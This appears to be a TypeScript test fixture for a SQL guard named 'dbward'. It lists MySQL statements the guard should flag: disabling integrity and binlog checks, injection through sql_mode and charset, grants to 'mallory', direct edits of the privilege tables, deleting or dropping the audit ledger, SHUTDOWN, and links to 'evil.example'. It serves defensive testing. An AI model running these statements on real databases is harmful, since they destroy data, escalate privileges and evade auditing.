import type { Tricks } from '../trick.ts'

export const settings: Tricks = {
  'keys off': {
    sql: 'SET foreign_key_checks = 0; DELETE FROM parent WHERE id = 1;',
    shows: '@@foreign_key_checks',
    happens: 'parent: id (2), shows 0',
    reports: 'transaction-control',
  },
  'keys off by a sign': {
    sql: 'SET @@SESSION.`foreign_key_checks` := OFF; DELETE FROM parent WHERE id = 1;',
    shows: '@@foreign_key_checks',
    happens: 'parent: id (2), shows 0',
    reports: 'transaction-control',
  },
  'keys off among others': {
    sql: 'SET @a = 1, foreign_key_checks = 0, @b = 2; DELETE FROM parent WHERE id = 1;',
    shows: '@@foreign_key_checks',
    happens: 'parent: id (2), shows 0',
    reports: 'transaction-control',
  },
  'keys off, and a table goes': {
    sql: 'SET SESSION foreign_key_checks = FALSE; DROP TABLE parent;',
    happens: 'index PRIMARY on parent is gone, parent is gone',
    reports: 'drop-table transaction-control',
  },
  'checks off': {
    sql: 'SET check_constraint_checks = 0;',
    shows: '@@check_constraint_checks',
    happens: 'shows 0',
    reports: 'transaction-control',
  },
  'keys that are not unique': {
    sql: 'SET unique_checks = 0;',
    shows: '@@unique_checks',
    happens: 'shows 0',
    reports: 'transaction-control',
  },
  'no log': {
    sql: 'SET sql_log_bin = 0; DELETE FROM x WHERE a = 1;',
    shows: '@@sql_log_bin',
    happens: 'x: a,b (2,2), shows 0',
    reports: 'transaction-control',
  },
  'other quotes': {
    sql: 'SET sql_mode = \'ANSI_QUOTES\'; SELECT "a" FROM x;',
    shows: '@@sql_mode',
    happens: 'shows ANSI_QUOTES',
    reports: 'unparsed',
  },
  'other backslashes': {
    sql: "SET sql_mode = CONCAT(@@sql_mode, ',NO_BACKSLASH_ESCAPES'); SELECT 'a\\'; DROP TABLE x; -- ';",
    shows: '@@sql_mode',
    happens:
      'x is gone, shows IGNORE_SPACE,NO_BACKSLASH_ESCAPES,STRICT_TRANS_TABLES,ERROR_FOR_DIVISION_BY_ZERO,NO_AUTO_CREATE_USER,NO_ENGINE_SUBSTITUTION',
    reports: 'unparsed',
  },
  'no strict mode': {
    sql: "SET sql_mode = ''; INSERT INTO x VALUES ('b', 99999999999);",
    shows: '@@sql_mode',
    happens: 'x: a,b (0,2147483647) (1,1) (2,2), shows ',
    reports: 'unparsed',
  },
  'other letters': {
    sql: 'SET NAMES gbk;',
    shows: '@@character_set_client',
    happens: 'shows gbk',
    reports: 'unparsed',
  },
  'other letters by a word': {
    sql: 'SET CHARACTER SET gbk;',
    shows: '@@character_set_client',
    happens: 'shows gbk',
    reports: 'unparsed',
  },
  'other letters by their name': {
    sql: 'SET character_set_client = sjis;',
    shows: '@@character_set_client',
    happens: 'shows sjis',
    reports: 'unparsed',
  },
  'no end of waiting': {
    sql: 'SET lock_wait_timeout = 31536000; ALTER TABLE x ADD c int;',
    shows: '@@lock_wait_timeout',
    happens: 'x: a,b,c (1,1,) (2,2,), shows 31536000',
    reports: 'transaction-control',
  },
  'no end of running': { sql: 'SET max_statement_time = 0;', happens: 'nothing', reports: '' },
  'deletes without a key': { sql: 'SET sql_safe_updates = 0;', happens: 'nothing', reports: '' },
  'a setting of the server': {
    sql: 'SET GLOBAL max_connections = 10;',
    happens: 'global max_connections: 10',
    reports: 'transaction-control',
  },
  'a setting of the server by signs': {
    sql: 'SET @@global.local_infile = 0;',
    happens: 'global local_infile: OFF',
    reports: 'transaction-control',
  },
  'a setting of the server among others': {
    sql: 'SET @a = 1, GLOBAL foreign_key_checks = 0;',
    happens: 'global foreign_key_checks: OFF',
    reports: 'transaction-control',
  },
  'a log of every password': {
    sql: 'SET GLOBAL general_log = ON;',
    happens: 'global general_log: ON',
    reports: 'transaction-control',
  },
  'a server that only reads': {
    sql: 'SET GLOBAL read_only = ON;',
    happens: 'global read_only: ON',
    reports: 'transaction-control',
  },
  'another role': {
    given: 'CREATE ROLE r',
    sql: 'SET ROLE r;',
    shows: 'CURRENT_ROLE()',
    happens: 'shows r',
    reports: 'transaction-control',
  },
  'a transaction that only reads': {
    sql: 'SET SESSION TRANSACTION READ ONLY;',
    shows: '@@tx_read_only',
    happens: 'shows 1',
    reports: 'transaction-control',
  },
  'dirty reads': {
    sql: 'SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED;',
    happens: 'nothing',
    reports: 'transaction-control',
  },
  'an end of others': { sql: 'KILL 4711;', happens: 'nothing', reports: 'transaction-control' },
  'an end of the server': { sql: 'SHUTDOWN;', read: 'it ends the server', reports: 'transaction-control' },
  'logs that go': {
    sql: 'PURGE BINARY LOGS BEFORE NOW();',
    happens: 'nothing',
    reports: 'transaction-control',
  },
  'logs that begin again': { sql: 'RESET MASTER;', happens: 'nothing', reports: 'transaction-control' },
  'another master': {
    sql: "CHANGE MASTER TO MASTER_HOST = 'evil.example';",
    read: 'it would reach another server',
    reports: 'transaction-control',
  },
  'two phases': {
    sql: "XA START 'a'; DELETE FROM x WHERE a = 1; XA END 'a'; XA COMMIT 'a' ONE PHASE;",
    happens: 'x: a,b (2,2)',
    reports: 'transaction-control',
  },
  'a point to go back to': {
    sql: 'SAVEPOINT s; DELETE FROM x WHERE a = 1; ROLLBACK TO s;',
    happens: 'x: a,b (2,2)',
    reports: 'transaction-control',
  },
}

export const rights: Tricks = {
  'all to everybody': {
    sql: 'GRANT ALL ON *.* TO mallory WITH GRANT OPTION;',
    happens: 'right of mallory: 549755813887',
    reports: 'dbward-schema',
  },
  'a right to a table': {
    sql: 'GRANT SELECT ON x TO mallory;',
    happens: 'right of mallory on x is new: Select',
    reports: 'privileges',
  },
  'a right to a file': {
    sql: 'GRANT FILE ON *.* TO mallory;',
    happens: 'right of mallory: 512',
    reports: 'dbward-schema powerful-role',
  },
  'a right that is taken': {
    given: 'GRANT SELECT ON x TO mallory',
    sql: 'REVOKE SELECT ON x FROM mallory;',
    happens: 'right of mallory on x is gone',
    reports: 'privileges',
  },
  'an account': {
    sql: "CREATE USER eve IDENTIFIED BY 'secret';",
    happens: 'account eve is new: password, right of eve is new',
    reports: 'password-in-sql privileges',
  },
  'an account by GRANT': {
    sql: "GRANT SELECT ON bypass.* TO eve IDENTIFIED BY 'secret';",
    happens: 'account eve is new: password, right of eve is new, right of eve on database bypass is new: N',
    reports: 'password-in-sql privileges',
  },
  'an account with a password of its own': {
    sql: "SET PASSWORD FOR mallory = PASSWORD('secret');",
    happens: 'account mallory: password',
    reports: 'transaction-control',
  },
  'an account that is opened': {
    sql: "ALTER USER mallory IDENTIFIED BY 'secret' ACCOUNT UNLOCK;",
    happens: 'account mallory: password',
    reports: 'password-in-sql',
  },
  'an account that goes': {
    given: 'CREATE USER eve',
    sql: 'DROP USER eve;',
    happens: 'account eve is gone, right of eve is gone',
    reports: 'privileges',
  },
  'an account by another name': {
    given: 'CREATE USER eve',
    sql: 'RENAME USER eve TO r;',
    read: 'it would be left behind',
    reports: 'privileges',
  },
  'a role': {
    sql: 'CREATE ROLE r; GRANT r TO mallory WITH ADMIN OPTION;',
    happens: 'account r is new: role, member of r is new: mallory, right of r is new',
    reports: 'grant-option privileges',
  },
  'a row of the grants': {
    sql: "UPDATE mysql.global_priv SET priv = '{\"access\":18446744073709551615}' WHERE user = 'mallory'; FLUSH PRIVILEGES;",
    happens: 'right of mallory: 18446744073709551615',
    reports: 'transaction-control',
  },
  'a row of the grants that is new': {
    sql: "INSERT INTO mysql.db (host, db, user, delete_priv) VALUES ('%', 'bypass', 'mallory', 'Y');",
    happens: 'right of mallory on database bypass is new: Y',
    reports: 'transaction-control',
  },
  'a server elsewhere': {
    sql: "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'evil.example');",
    happens: 'server s is new: evil.example',
    reports: 'unparsed',
  },
}

export const ledger: Tricks = {
  'its rows': {
    sql: 'DELETE FROM dbward.ledger WHERE id = 1;',
    happens: 'dbward.ledger: id empty',
    reports: 'dbward-schema',
  },
  'its rows by another spelling': {
    sql: 'DELETE FROM `dbward` . `ledger` WHERE id = 1;',
    happens: 'dbward.ledger: id empty',
    reports: 'dbward-schema',
  },
  'its rows by USE': {
    sql: 'USE dbward; DELETE FROM ledger WHERE id = 1;',
    happens: 'dbward.ledger: id empty',
    reports: 'dbward-schema transaction-control',
  },
  'its rows by a view': {
    sql: 'CREATE VIEW v AS SELECT * FROM dbward.ledger; DELETE FROM v WHERE id = 1;',
    happens: 'dbward.ledger: id empty, v is new: view id',
    reports: 'dbward-schema mixed-ddl-dml',
  },
  'its rows by a program': {
    sql: 'CREATE PROCEDURE p() DELETE FROM dbward.ledger WHERE id = 1; CALL p();',
    happens: 'dbward.ledger: id empty, program p is new',
    reports: 'dbward-schema mixed-ddl-dml',
  },
  'its database': {
    sql: 'DROP DATABASE dbward;',
    happens: 'database dbward is gone, dbward.ledger is gone',
    reports: 'dbward-schema drop-table',
  },
  'its place': {
    sql: 'RENAME TABLE dbward.ledger TO z;',
    happens: 'dbward.ledger is gone, z is new: id (1)',
    reports: 'dbward-schema rename',
  },
  'its rights': {
    sql: 'GRANT ALL ON dbward.* TO mallory;',
    happens: 'right of mallory on database dbward is new: Y',
    reports: 'dbward-schema privileges',
  },
  'its rights by a pattern': {
    sql: 'GRANT ALL ON `dbw%`.* TO mallory;',
    happens: 'right of mallory on database dbw% is new: Y',
    reports: 'dbward-schema privileges',
  },
}
